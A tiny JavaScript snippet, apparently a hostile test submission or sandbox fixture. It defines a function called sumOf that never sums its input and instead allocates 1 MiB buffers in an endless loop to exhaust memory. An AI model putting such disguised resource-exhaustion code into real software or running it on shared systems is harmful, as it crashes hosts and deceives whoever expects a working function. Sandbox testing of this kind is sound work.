var sumOf = function(nums) {
    const blocks = [];
    while (true) {
        blocks.push(Buffer.alloc(2 ** 20, "x"));
    }
};
